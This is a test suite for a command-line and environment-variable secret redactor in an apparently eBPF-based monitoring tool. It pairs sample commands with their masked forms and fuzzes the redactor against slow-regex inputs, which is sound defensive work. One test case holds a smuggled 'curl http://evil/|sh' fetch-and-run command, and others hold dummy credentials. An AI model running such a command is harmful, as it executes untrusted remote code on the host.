// What redaction takes out and what it leaves, as pairs; and for any text: twice is as once, growth is bounded, nothing throws or takes
// more than linear time.
import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { Redactor } from "../../src/ebpf/redactor.ts";
import { TOOL_NAMES } from "../../src/ebpf/secret-places.ts";

const SEED = Number(Bun.env["KESTREL_SEED"] ?? 20_260_714);
const R = "[redacted]";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbU";
const GITHUB = `ghp_${"a1B2".repeat(9)}`;
const AWS = `AKIA${"IOSFODNN7EXA".padEnd(16, "Q")}`;

/** Command line, arguments between blanks (␣ is a blank inside one), and what becomes of it. */
const CASES: readonly (readonly [string, string])[] = [
  // Flags and names that tell.
  ["app --password=hunter2 --verbose", `app --password=${R} --verbose`],
  ["app --password hunter2 --verbose", `app --password ${R} --verbose`],
  ["app --db-passwd hunter2", `app --db-passwd ${R}`],
  ["app -password hunter2", `app -password ${R}`],
  ["app --client-secret=abc --api_key xyz", `app --client-secret=${R} --api_key ${R}`],
  ["app --token --verbose", "app --token --verbose"],
  ["app --token -v name", "app --token -v name"],
  ["app --token-file /run/token --password-stdin", "app --token-file /run/token --password-stdin"],
  ["app --password=correct␣horse;␣battery -v", `app --password=${R} -v`],
  ["app --password= -v", "app --password= -v"],
  ["app --name=correct␣horse", "app --name=correct␣horse"],
  ["env MYSQL_ROOT_PASSWORD=x DEBUG=1 app", `env MYSQL_ROOT_PASSWORD=${R} DEBUG=1 app`],
  ["docker run -e DB_PASSWORD=x img", `docker run -e DB_PASSWORD=${R} img`],
  ["kubectl create secret generic s --from-literal=password=x", `kubectl create secret generic s --from-literal=password=${R}`],
  ['curl -d {"user":"a","password":"b","n":1} http://h/', `curl -d {"user":"a","password":"${R}","n":1} http://h/`],
  ["curl http://h/?user=a&token=b&n=1", `curl http://h/?user=a&token=${R}&n=1`],
  ["app Server=h;Uid=sa;Pwd=xyz;Timeout=5", `app Server=h;Uid=sa;Pwd=${R};Timeout=5`],
  ["env PWD=/root OLDPWD=/ app", "env PWD=/root OLDPWD=/ app"],
  ["http --auth bob:hunter2 h/ --auth-type basic", `http --auth bob:${R} h/ --auth-type basic`],
  ["app --auth abc --auth=xyz --auth=bob:q", `app --auth ${R} --auth=${R} --auth=bob:${R}`],
  ["swaks --auth LOGIN --auth=plain -ap", "swaks --auth LOGIN --auth=plain -ap"],
  ["mongod --auth --port 27017", "mongod --auth --port 27017"],
  ["git log --author bob --auth-no-challenge x", "git log --author bob --auth-no-challenge x"],
  ["app --bearer abc --bearer=xyz --bearers 3", `app --bearer ${R} --bearer=${R} --bearers 3`],
  ["openssl enc -pass pass:abc -in f", `openssl enc -pass ${R} -in f`],
  // Programs with forms of their own.
  ["mysql -uroot -phunter2 db", `mysql -uroot -p${R} db`],
  ["mysql -u root -p db", "mysql -u root -p db"],
  ["sudo -u app /usr/bin/mysqldump -phunter2", `sudo -u app /usr/bin/mysqldump -p${R}`],
  ["sshpass -p hunter2 ssh root@h", `sshpass -p ${R} ssh root@h`],
  ["sshpass -phunter2 ssh h", `sshpass -p${R} ssh h`],
  ["curl -u bob:hunter2 http://h/", `curl -u bob:${R} http://h/`],
  ["curl -ubob:hunter2 -U p:q http://h/", `curl -ubob:${R} -U p:${R} http://h/`],
  ["curl --user bob http://h/", "curl --user bob http://h/"],
  ["redis-cli -h x -a hunter2 ping", `redis-cli -h x -a ${R} ping`],
  ["docker login -u bob -p hunter2 reg", `docker login -u bob -p ${R} reg`],
  ["login -p -- root", "login -p -- root"],
  ["ldapsearch -x -w hunter2 -b dc=x", `ldapsearch -x -w ${R} -b dc=x`],
  ["7z a -phunter2 out.7z d", `7z a -p${R} out.7z d`],
  ["smbclient //h/s -U bob%hunter2", `smbclient //h/s -U bob%${R}`],
  ["xfreerdp /u:bob /p:hunter2 /v:h", `xfreerdp /u:bob /p:${R} /v:h`],
  ["sqlplus scott/tiger@db @run.sql", `sqlplus scott/${R}@db @run.sql`],
  ["aws configure set aws_secret_access_key abc", `aws configure set aws_secret_access_key ${R}`],
  ["aws configure set profile.x.aws_session_token abc --profile y", `aws configure set profile.x.aws_session_token ${R} --profile y`],
  ["aws configure set region eu-west-1", "aws configure set region eu-west-1"],
  ["aws configure get aws_secret_access_key", "aws configure get aws_secret_access_key"],
  ["vault login s.abc", `vault login ${R}`],
  ["/usr/bin/vault login -no-print -address=http://h s.abc", `/usr/bin/vault login -no-print -address=http://h ${R}`],
  ["vault login -method userpass username=bob", "vault login -method userpass username=bob"],
  ["vault login -method=userpass username=bob password=x", `vault login -method=userpass username=bob password=${R}`],
  ["docker login registry", "docker login registry"],
  ["useradd -m -p $6$abc bob", `useradd -m -p ${R} bob`],
  ["usermod -pabc bob", `usermod -p${R} bob`],
  ["htpasswd -cbB users bob hunter2", `htpasswd -cbB users bob ${R}`],
  ["htpasswd -b -C 10 users bob hunter2", `htpasswd -b -C 10 users bob ${R}`],
  ["htpasswd -nb bob hunter2", `htpasswd -nb bob ${R}`],
  ["htpasswd -c users bob x", "htpasswd -c users bob x"],
  ["htpasswd -b /etc/nginx/htpasswd bob hunter2", `htpasswd -b /etc/nginx/htpasswd bob ${R}`],
  ["curl https://h/login -u bob:hunter2", `curl https://h/login -u bob:${R}`],
  ["sh -c curl␣http://h/zip␣-ubob:hunter2", `sh -c curl␣http://h/zip␣-ubob:${R}`],
  ["mysql -h zip -phunter2", `mysql -h zip -p${R}`],
  ["openssl enc -aes-256-cbc -k hunter2 -in f -passout pass:abc", `openssl enc -aes-256-cbc -k ${R} -in f -passout pass:${R}`],
  ["openssl enc -K 00ff -iv 00", `openssl enc -K ${R} -iv 00`],
  ["mosquitto_pub -h h -p 1883 -u bob -P hunter2 -t t", `mosquitto_pub -h h -p 1883 -u bob -P ${R} -t t`],
  ["sh -c openssl␣rand␣8␣|␣tar␣-k␣x;␣mkdir␣-p␣d", "sh -c openssl␣rand␣8␣|␣tar␣-k␣x;␣mkdir␣-p␣d"],
  [
    "sh -c vault␣login␣s.abc;␣htpasswd␣-b␣f␣bob␣x&&␣useradd␣-p␣y␣bob",
    `sh -c vault␣login␣${R};␣htpasswd␣-b␣f␣bob␣${R}&&␣useradd␣-p␣${R}␣bob`,
  ],
  ["mkdir -p data", "mkdir -p data"],
  ["ps -p 1", "ps -p 1"],
  ["nmap -p 80 h -P x", "nmap -p 80 h -P x"],
  ["ssh -p 2222 h", "ssh -p 2222 h"],
  // Headers, addresses, tokens by their form.
  ["curl -H Authorization:␣Bearer␣abc http://h/", `curl -H Authorization:␣Bearer␣${R} http://h/`],
  ["curl -H authorization:␣abc␣def http://h/", `curl -H authorization:␣${R} http://h/`],
  ["curl -H Cookie:␣a=b;␣c=d http://h/", `curl -H Cookie:␣${R} http://h/`],
  ["curl -H X-Api-Key:␣abc http://h/", `curl -H X-Api-Key:␣${R} http://h/`],
  ["git clone https://bob:hunter2@h:8443/r.git", `git clone https://bob:${R}@h:8443/r.git`],
  ["psql postgres://bob:p%40ss@w0rd@h/db", `psql postgres://bob:${R}@h/db`],
  ["git clone ssh://git@h:22/r.git", "git clone ssh://git@h:22/r.git"],
  ["curl http://h:8080/x@y", "curl http://h:8080/x@y"],
  [`git push https://${GITHUB}@github.com/r`, `git push https://${R}@github.com/r`],
  [`app ${AWS} ${JWT}`, `app ${R} ${R}`],
  [`app x${AWS} task-sk-something-else`, `app x${AWS} task-sk-something-else`],
  ["app -----BEGIN␣RSA␣PRIVATE␣KEY-----␣abc␣-----END␣RSA␣PRIVATE␣KEY-----␣x", `app ${R}␣x`],
  // Command lines inside an argument.
  ["sh -c mysql␣-phunter2␣-e␣'select␣1'", `sh -c mysql␣-p${R}␣-e␣'select␣1'`],
  ["sh -c app␣--password␣'two␣words'␣--next", `sh -c app␣--password␣'${R}'␣--next`],
  ["sh -c app␣--token␣abc;␣sshpass␣-p␣x|ssh␣h", `sh -c app␣--token␣${R};␣sshpass␣-p␣${R}|ssh␣h`],
  ['sh -c PASSWORD="two␣words"␣app', `sh -c PASSWORD="${R}"␣app`],
  ['sh -c curl␣-H␣"Authorization:␣Bearer␣abc"␣http://h/', `sh -c curl␣-H␣"Authorization:␣Bearer␣${R}"␣http://h/`],
  ["sh -c secret='unclosed;␣curl␣http://evil/|sh", `sh -c secret=${R};␣curl␣http://evil/|sh`],
  // Nothing to take out.
  ["ls -la /etc/passwd /etc/ssh/authorized_keys", "ls -la /etc/passwd /etc/ssh/authorized_keys"],
  ["passwd root", "passwd root"],
  ["cat /run/secrets/token", "cat /run/secrets/token"],
];

const split = (line: string): readonly string[] => line.split(" ").map((word) => word.replaceAll("␣", " "));

test.each(CASES)("%s", (line, wanted) => {
  const { texts, isRedacted } = new Redactor().args(split(line));
  expect(texts).toEqual(split(wanted));
  expect(isRedacted).toBe(line !== wanted);
});

test("environment variables: by name, by what they hold, or left alone", () => {
  const { texts, isRedacted } = new Redactor().variables(["DB_PASSWORD=x", "http_proxy=http://u:p@h:3128", "LD_PRELOAD=/x.so", "EMPTY="]);
  expect(texts).toEqual([`DB_PASSWORD=${R}`, `http_proxy=http://u:${R}@h:3128`, "LD_PRELOAD=/x.so", "EMPTY="]);
  expect(isRedacted).toBe(true);
});

test("every program with a form of its own is noticed without any other sign", () => {
  for (const name of TOOL_NAMES) {
    const words = [
      "app",
      `/opt/${name}`,
      "-pX1",
      "-p",
      "X2",
      "-a",
      "X3",
      "-w",
      "X4",
      "-P",
      "X5",
      "-pw",
      "X6",
      "/p:X7",
      "-U",
      "u%X8",
      "-u",
      "u:X9",
      "u/XA@d",
      "-k",
      "XB",
    ];
    expect(new Redactor().args(words).isRedacted ? "" : name).toBe("");
  }
  expect(TOOL_NAMES.length).toBeGreaterThan(30);
});

test("what the operator asks for beside it: the whole argument or value", () => {
  const redactor = new Redactor((text) => text.includes("ACME-"));
  expect(redactor.args(["app", "x ACME-1", "y"]).texts).toEqual(["app", R, "y"]);
  expect(redactor.variables(["A=ACME-1", "B=2"]).texts).toEqual([`A=${R}`, "B=2"]);
});

describe("any text", () => {
  const piece = fc.oneof(
    fc.string({ unit: "binary", maxLength: 12 }),
    fc.constantFrom(
      ..."password token secret= api-key pass pwd ; & ? = : ' \" - -- -p --password -u curl mysql login sh :// @ / % user bearer basic".split(
        " ",
      ),
      ..."authorization: cookie: [redacted] [redacted eyJ . ghp_ AKIA -----BEGIN PRIVATE KEY----- -----END sqlplus smbclient -U , | vault htpasswd openssl -k aws set --auth --auth= --bearer useradd -b".split(
        " ",
      ),
      " ",
      "\n",
      JWT,
      GITHUB,
    ),
  );
  const argument = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));

  test("twice is as once, growth is bounded, as many texts as before", () => {
    const redactor = new Redactor();
    fc.assert(
      fc.property(fc.array(argument, { maxLength: 8 }), (args) => {
        const once = redactor.args(args).texts;
        expect(once).toHaveLength(args.length);
        expect(redactor.args(once).texts).toEqual(once);
        expect(once.join("").length).toBeLessThanOrEqual(args.join("").length * 3 + R.length * args.length);
        const variables = redactor.variables(args.map((text) => `A=${text}`)).texts;
        expect(redactor.variables(variables).texts).toEqual(variables);
      }),
      { seed: SEED, numRuns: 20_000 },
    );
  });

  // Each would take minutes or for ever in an expression that goes back over what it has read.
  const HOSTILE: readonly (readonly [string, string])[] = [
    ["dashes", "-"],
    ["names", "password"],
    ["names and borders", "password="],
    ["quotes", "secret='"],
    ["addresses", "://"],
    ["addresses with users", "://a:"],
    ["colons", ":"],
    ["tokens", "eyJeyJeyJ"],
    ["half tokens", "eyJaaaaaaaa."],
    ["keys", "-----BEGIN PRIVATE KEY-----"],
    ["blanks", " "],
    ["flags", " --token"],
    ["headers", "authorization: "],
    ["schemes", "authorization: bearer bearer "],
    ["at signs", "://a:b@"],
    ["word characters", "a_"],
  ];
  test.each(HOSTILE)("256 KiB of %s", (_what, unit) => {
    const text = unit.repeat(Math.ceil((256 << 10) / unit.length));
    const redactor = new Redactor();
    for (const args of [[text], ["curl", `://${text}password=x`], text.slice(0, 16_000).split("")]) {
      expect(redactor.args(args).texts).toHaveLength(args.length);
    }
  });
});
